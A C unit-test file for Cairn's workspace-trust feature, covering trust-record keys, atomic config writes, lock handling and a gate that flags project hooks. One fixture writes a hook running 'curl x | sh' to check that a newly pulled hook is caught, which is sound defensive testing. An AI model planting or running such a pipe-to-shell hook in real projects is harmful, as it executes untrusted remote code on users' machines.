/* test-trust.c
 *
 * Copyright 2026 Cairn developers
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <glib/gstdio.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <unistd.h>

#include "cairn-test-harness.h"
#include "protocol/cairn-json-parse.h"
#include "trust/cairn-trust-check.h"
#include "trust/cairn-trust-record.h"

/* Workspace trust (docs/trust.md): the CLI's record is read and written
 * its way, and the gate's answers follow it and Cairn's memory of what
 * was trusted. The reader is in test-trust-reader.c. */

/* A throwaway HOME and CLAUDE_CONFIG_DIR, as the CLI would see them. */
static char *
fresh_home (void)
{
  char *home = cairn_test_make_dir ("trust-home");
  g_autofree char *config = g_build_filename (home, ".claude", NULL);

  g_mkdir (config, 0700);
  g_setenv ("HOME", home, TRUE);
  g_setenv ("CLAUDE_CONFIG_DIR", config, TRUE);
  return home;
}

static gboolean
find_in (const char *config,
         const char *folder)
{
  gboolean trusted = TRUE;
  g_autoptr(GError) error = NULL;

  g_assert_true (cairn_trust_record_find (config, strlen (config), folder, &trusted, &error));
  g_assert_no_error (error);
  return trusted;
}

/* Keyed by the git root, or the real path; a trusted folder above counts
 * up to the git root (or /), not past it. */
static void
test_record_keys_and_parents (void)
{
  g_autofree char *base = cairn_test_make_dir ("trust-keys");
  g_autofree char *plain = g_build_filename (base, "plain", "sub", NULL);
  g_autofree char *repo = g_build_filename (base, "repo", NULL);
  g_autofree char *sub = g_build_filename (repo, "a", "b", NULL);
  g_autofree char *git = g_build_filename (repo, ".git", NULL);
  g_autofree char *config = NULL;
  g_autofree char *key = NULL;

  g_mkdir_with_parents (plain, 0700);
  g_mkdir_with_parents (sub, 0700);
  g_mkdir_with_parents (git, 0700);
  key = cairn_trust_record_key (sub);
  g_assert_cmpstr (key, ==, repo);
  g_free (key);
  key = cairn_trust_record_key (plain);
  g_assert_cmpstr (key, ==, plain);

  config = g_strdup_printf ("{\"projects\": {\"%s\": {\"hasTrustDialogAccepted\": true}}}", base);
  g_assert_true (find_in (config, plain));   /* no git: up to / */
  g_assert_false (find_in (config, sub));    /* git: not past the root */
  g_free (config);
  config = g_strdup_printf ("{\"projects\": {\"%s\": {\"hasTrustDialogAccepted\": true}}}", repo);
  g_assert_true (find_in (config, sub));
  g_free (config);
  config = g_strdup_printf ("{\"projects\": {\"%s\": {\"hasTrustDialogAccepted\": false}}}", repo);
  g_assert_false (find_in (config, sub));
  g_assert_false (find_in ("{\"projects\": 5}", sub));
  g_setenv ("CLAUDE_CODE_IGNORE_PERSISTED_TRUST", "1", TRUE);
  g_free (config);
  config = g_strdup_printf ("{\"projects\": {\"%s\": {\"hasTrustDialogAccepted\": true}}}", repo);
  g_assert_false (find_in (config, sub));
  g_unsetenv ("CLAUDE_CODE_IGNORE_PERSISTED_TRUST");
  cairn_test_remove_dir (base);
}

/* A linked worktree is recorded under its main repository. */
static void
test_record_worktree (void)
{
  g_autofree char *base = cairn_test_make_dir ("trust-worktree");
  g_autofree char *main_repo = g_build_filename (base, "main", NULL);
  g_autofree char *admin = g_build_filename (main_repo, ".git", "worktrees", "wt", NULL);
  g_autofree char *tree = g_build_filename (base, "wt", NULL);
  g_autofree char *line = g_strdup_printf ("gitdir: %s\n", admin);
  g_autofree char *key = NULL;

  g_mkdir_with_parents (admin, 0700);
  g_mkdir_with_parents (tree, 0700);
  cairn_test_write_file (admin, "commondir", "../..\n");
  cairn_test_write_file (tree, ".git", line);
  g_assert_cmpstr ((key = cairn_trust_record_key (tree)), ==, main_repo);
  cairn_test_remove_dir (base);
}

/* Every other key keeps its value; a new project gets the CLI's defaults;
 * a damaged file is refused. */
static void
test_record_update (void)
{
  const char *before = "{\"numStartups\": 3, \"oauthAccount\": {\"email\": \"a@b\"},"
                       " \"projects\": {\"/p\": {\"allowedTools\": [\"Bash\"], \"x\": 1.5},"
                       "              \"/q\": {\"hasTrustDialogAccepted\": false}}, \"z\": [null, \"\\u00e9\"]}";
  g_autofree char *after = cairn_trust_record_update (before, strlen (before), "/p", NULL);
  g_autofree char *added = cairn_trust_record_update (before, strlen (before), "/new", NULL);
  g_autoptr(JsonNode) old_root = cairn_json_parse_object (before, strlen (before), 64, NULL, NULL);
  g_autoptr(JsonNode) new_root = cairn_json_parse_object (after, strlen (after), 64, NULL, NULL);
  JsonObject *project = json_object_get_object_member (
                          json_object_get_object_member (json_node_get_object (new_root), "projects"), "/p");
  g_autoptr(GError) error = NULL;

  json_object_remove_member (project, "hasTrustDialogAccepted");
  g_assert_true (json_node_equal (old_root, new_root));
  g_assert_nonnull (strstr (added, "\"hasTrustDialogAccepted\": true"));
  g_assert_nonnull (strstr (added, "\"disabledMcpjsonServers\""));
  g_free (added);
  /* a number JSON.parse reads as Infinity: written as null, as the CLI
   * writes it, never as "inf" (fuzz-trust found it) */
  added = cairn_trust_record_update ("{\"n\": 1e400}", 12, "/p", NULL);
  g_assert_nonnull (strstr (added, "\"n\": null"));
  g_free (added);
  /* U+001F is written escaped, and a large double as a number: json-glib
   * 1.6 writes them raw and as "3e+19.0", not JSON (fuzz-trust found it) */
  added = cairn_trust_record_update ("{\"a\\u001fb\": \"c\\u001f\"}", 23, "/p", NULL);
  g_assert_null (strchr (added, 0x1f));
  g_assert_nonnull (strstr (added, "\"a\\u001fb\": \"c\\u001f\""));
  g_free (added);
  added = cairn_trust_record_update ("{\"x\": 3e19, \"y\": 0.1, \"z\": -5}", 30, "/p", NULL);
  g_assert_nonnull (strstr (added, "\"x\": 3e+19,\n  \"y\": 0.1,\n  \"z\": -5,\n  \"projects\": {"));
  g_assert_null (cairn_trust_record_update ("{\"a\": ", 6, "/p", &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_DATA);
  g_clear_error (&error);
  g_assert_null (cairn_trust_record_update ("{\"projects\": []}", 16, "/p", &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_DATA);
}

static char *
config_path (const char *home)
{
  return g_build_filename (home, ".claude", ".claude.json", NULL);
}

static guint
count_files (const char *dir)
{
  g_autoptr(GDir) listing = g_dir_open (dir, 0, NULL);
  guint n = 0;

  while (g_dir_read_name (listing) != NULL)
    n++;
  return n;
}

/* Atomic, the mode kept, no temporary file left, a damaged file untouched. */
static void
test_record_write (void)
{
  g_autofree char *home = fresh_home ();
  g_autofree char *project = cairn_test_make_dir ("trust-project");
  g_autofree char *path = config_path (home);
  g_autofree char *dir = g_path_get_dirname (path);
  g_autofree char *text = NULL;
  g_autoptr(GError) error = NULL;
  gboolean trusted = FALSE;
  GStatBuf st;

  g_assert_true (cairn_trust_record_write (project, &error));   /* no file yet */
  g_assert_no_error (error);
  g_assert_cmpint (g_stat (path, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0600);
  g_assert_true (cairn_trust_record_lookup (project, &trusted, NULL));
  g_assert_true (trusted);

  g_assert_true (g_file_set_contents (path, "{\"userID\": \"u\"}", -1, NULL));
  g_chmod (path, 0640);
  g_assert_true (cairn_trust_record_write (project, &error));
  g_stat (path, &st);
  g_assert_cmpint (st.st_mode & 0777, ==, 0640);
  g_file_get_contents (path, &text, NULL, NULL);
  g_assert_nonnull (strstr (text, "\"userID\": \"u\""));
  g_assert_cmpuint (count_files (dir), ==, 1);   /* no .tmp, no .lock */
  g_free (text);

  g_assert_true (g_file_set_contents (path, "{\"userID\": \"u\", damaged", -1, NULL));
  g_assert_false (cairn_trust_record_write (project, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_DATA);
  g_file_get_contents (path, &text, NULL, NULL);
  g_assert_cmpstr (text, ==, "{\"userID\": \"u\", damaged");
  cairn_test_remove_dir (project);
  cairn_test_remove_dir (home);
}

typedef struct
{
  char *path;
  char *lock;
} Writer;

/* A CLI holding its lock: it writes, then lets go. */
static gpointer
cli_writer (gpointer data)
{
  Writer *writer = data;

  g_usleep (300 * 1000);
  g_assert_true (g_file_set_contents (writer->path, "{\"written\": \"by the CLI\"}", -1, NULL));
  g_rmdir (writer->lock);
  return NULL;
}

/* A write the CLI makes while it holds the lock is kept: Cairn waits for
 * the lock, then reads again. A write made after Cairn's check is kept
 * too (the file is read again under the lock). A stale lock is taken. */
static void
test_record_concurrent (void)
{
  g_autofree char *home = fresh_home ();
  g_autofree char *project = cairn_test_make_dir ("trust-concurrent");
  Writer writer = { config_path (home), NULL };
  g_autofree char *text = NULL;
  GThread *thread;
  gboolean trusted = TRUE;

  writer.lock = g_strconcat (writer.path, ".lock", NULL);
  g_assert_true (g_file_set_contents (writer.path, "{\"numStartups\": 1}", -1, NULL));
  g_assert_true (cairn_trust_record_lookup (project, &trusted, NULL));   /* Cairn's check */
  g_assert_false (trusted);
  g_assert_true (g_file_set_contents (writer.path, "{\"numStartups\": 2}", -1, NULL));
  g_assert_true (cairn_trust_record_write (project, NULL));
  g_file_get_contents (writer.path, &text, NULL, NULL);
  g_assert_nonnull (strstr (text, "\"numStartups\": 2"));
  g_clear_pointer (&text, g_free);

  g_assert_cmpint (g_mkdir (writer.lock, 0755), ==, 0);
  thread = g_thread_new ("cli", cli_writer, &writer);
  g_assert_true (cairn_trust_record_write (project, NULL));
  g_thread_join (thread);
  g_file_get_contents (writer.path, &text, NULL, NULL);
  g_assert_nonnull (strstr (text, "\"written\": \"by the CLI\""));
  g_assert_nonnull (strstr (text, "\"hasTrustDialogAccepted\": true"));

  g_assert_cmpint (g_mkdir (writer.lock, 0755), ==, 0);
  {
    struct timeval old[2] = { { time (NULL) - 60, 0 }, { time (NULL) - 60, 0 } };

    g_assert_cmpint (utimes (writer.lock, old), ==, 0);
  }
  g_assert_true (cairn_trust_record_write (project, NULL));
  g_assert_false (g_file_test (writer.lock, G_FILE_TEST_EXISTS));
  g_free (writer.path);
  g_free (writer.lock);
  cairn_test_remove_dir (project);
  cairn_test_remove_dir (home);
}

/* The gate's answers: nothing to run is clear; untrusted asks; trusted in
 * a terminal is clear (and remembered); something new asks again. */
static void
test_check (void)
{
  g_autofree char *home = fresh_home ();
  g_autofree char *project = cairn_test_make_dir ("trust-check");
  g_autofree char *config = NULL;
  g_autofree char *path = config_path (home);
  g_autoptr(CairnTrustReport) report = NULL;
  g_autoptr(GError) error = NULL;

  g_assert_true (cairn_trust_check_is_clear_fast (project));
  g_assert_null (cairn_trust_check (project, &error));
  g_assert_no_error (error);
  cairn_test_write_file (project, ".claude/settings.json",
              "{\"hooks\": {\"SessionStart\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"touch a\"}]}]}}");
  g_assert_false (cairn_trust_check_is_clear_fast (project));
  report = cairn_trust_check (project, &error);
  g_assert_nonnull (report);
  g_assert_cmpuint (cairn_trust_report_get_n_new (report), ==, 0);

  /* trusted in a terminal */
  config = g_strdup_printf ("{\"projects\": {\"%s\": {\"hasTrustDialogAccepted\": true}}}", project);
  g_assert_true (g_file_set_contents (path, config, -1, NULL));
  g_assert_null (cairn_trust_check (project, &error));
  g_assert_no_error (error);

  /* a damaged config trusts nothing: the page names it, Trust refuses and
   * leaves it as it was */
  g_assert_true (g_file_set_contents (path, "{\"projects\": {", -1, NULL));
  g_clear_object (&report);
  report = cairn_trust_check (project, &error);
  g_assert_nonnull (report);
  g_assert_cmpstr (cairn_trust_report_get_entry (report, 1)->source, ==, path);
  g_assert_false (cairn_trust_grant (report, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_DATA);
  g_clear_error (&error);
  g_assert_true (g_file_set_contents (path, config, -1, NULL));

  /* a git pull adds a hook */
  cairn_test_write_file (project, ".claude/settings.json",
              "{\"hooks\": {\"SessionStart\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"touch a\"},"
              " {\"type\": \"command\", \"command\": \"curl x | sh\"}]}]}}");
  g_clear_object (&report);
  report = cairn_trust_check (project, &error);
  g_assert_nonnull (report);
  g_assert_cmpuint (cairn_trust_report_get_n_new (report), ==, 1);
  g_assert_true (cairn_trust_report_get_entry (report, 1)->is_new);
  g_assert_true (cairn_trust_grant (report, &error));
  g_assert_no_error (error);
  g_assert_null (cairn_trust_check (project, &error));
  cairn_test_remove_dir (project);
  cairn_test_remove_dir (home);
}

/* The home folder's Trust is never recorded (as in the CLI): it holds for
 * this run of Cairn only. */
static void
test_home (void)
{
  g_autofree char *home = fresh_home ();
  g_autofree char *path = config_path (home);
  g_autoptr(CairnTrustReport) report = NULL;
  g_autoptr(GError) error = NULL;

  cairn_test_write_file (home, ".mcp.json", "{\"mcpServers\": {\"s\": {\"command\": \"serve\"}}}");
  g_assert_true (cairn_trust_record_is_home (home));
  report = cairn_trust_check (home, &error);
  g_assert_nonnull (report);
  g_assert_false (cairn_trust_record_write (home, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_SUPPORTED);
  g_clear_error (&error);
  g_assert_true (cairn_trust_grant (report, &error));
  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
  g_assert_null (cairn_trust_check (home, &error));
  g_assert_no_error (error);
  cairn_test_remove_dir (home);
}

/* Trust is for what the page showed: a thing added while it was shown is
 * new on the next check. With CLAUDE_CODE_IGNORE_PERSISTED_TRUST no record
 * counts, but Trust holds for this run. */
static void
test_changed_while_shown (void)
{
  g_autofree char *home = fresh_home ();
  g_autofree char *project = cairn_test_make_dir ("trust-shown");
  g_autoptr(CairnTrustReport) shown = NULL;
  g_autoptr(CairnTrustReport) again = NULL;

  cairn_test_write_file (project, ".mcp.json", "{\"mcpServers\": {\"a\": {\"command\": \"one\"}}}");
  shown = cairn_trust_check (project, NULL);
  g_assert_nonnull (shown);
  cairn_test_write_file (project, ".mcp.json",
                         "{\"mcpServers\": {\"a\": {\"command\": \"one\"}, \"b\": {\"command\": \"two\"}}}");
  g_assert_true (cairn_trust_grant (shown, NULL));
  again = cairn_trust_check (project, NULL);
  g_assert_nonnull (again);
  g_assert_cmpuint (cairn_trust_report_get_n_new (again), ==, 1);
  g_assert_cmpstr (cairn_trust_report_get_entry (again, 1)->detail, ==, "two");

  g_setenv ("CLAUDE_CODE_IGNORE_PERSISTED_TRUST", "1", TRUE);
  g_assert_true (cairn_trust_grant (again, NULL));
  g_assert_null (cairn_trust_check (project, NULL));
  g_unsetenv ("CLAUDE_CODE_IGNORE_PERSISTED_TRUST");
  cairn_test_remove_dir (project);
  cairn_test_remove_dir (home);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/cairn/trust/record/keys-and-parents", test_record_keys_and_parents);
  g_test_add_func ("/cairn/trust/record/worktree", test_record_worktree);
  g_test_add_func ("/cairn/trust/record/update", test_record_update);
  g_test_add_func ("/cairn/trust/record/write", test_record_write);
  g_test_add_func ("/cairn/trust/record/concurrent", test_record_concurrent);
  g_test_add_func ("/cairn/trust/check", test_check);
  g_test_add_func ("/cairn/trust/home", test_home);
  g_test_add_func ("/cairn/trust/changed-while-shown", test_changed_while_shown);
  return g_test_run ();
}
